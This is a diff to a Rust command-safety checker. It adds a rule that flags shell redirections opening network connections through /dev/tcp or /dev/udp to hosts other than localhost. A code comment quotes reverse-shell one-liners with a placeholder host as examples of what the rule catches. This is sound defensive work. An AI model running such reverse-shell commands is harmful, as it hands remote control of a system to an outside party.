@@ -93,6 +93,7 @@ rules! {
         COMMAND_VARIABLE = "command-variable", Ask;
         INTERPRETER_DELETE = "interpreter-delete", Ask;
         INTERPRETER_SHELL_OUT = "interpreter-shell-out", Ask;
+        DEV_TCP = "dev-tcp", Ask;
     }
 }
 
@@ -323,6 +324,24 @@ pub(super) fn command_hits(command: &Command, env: &Env<'_>) -> Vec<Hit> {
         hits.push(hit(
             DEVICE_WRITE,
             format!("writes to disk device {}", r.target),
+        ));
+    }
+    // bash's `/dev/tcp/HOST/PORT` and `/dev/udp/…`: a connection from a redirection, the
+    // stuff of reverse shells (`bash -i >& /dev/tcp/h/4444 0>&1`, `sh < /dev/tcp/h/4444`).
+    // This machine's own ports are not (`exec 3<>/dev/tcp/localhost/8080`, a port check).
+    let remote = |target: &str| {
+        let host = (target.strip_prefix("/dev/tcp/"))
+            .or_else(|| target.strip_prefix("/dev/udp/"))
+            .and_then(|rest| rest.split('/').next());
+        host.is_some_and(|h| !matches!(h, "localhost" | "::1") && !h.starts_with("127."))
+    };
+    if let Some(r) = command.redirects.iter().find(|r| remote(&r.target)) {
+        hits.push(hit(
+            DEV_TCP,
+            format!(
+                "opens a network connection through the shell ({})",
+                r.target
+            ),
         ));
     }
     hits.extend(write_hits(command, &operands, env));
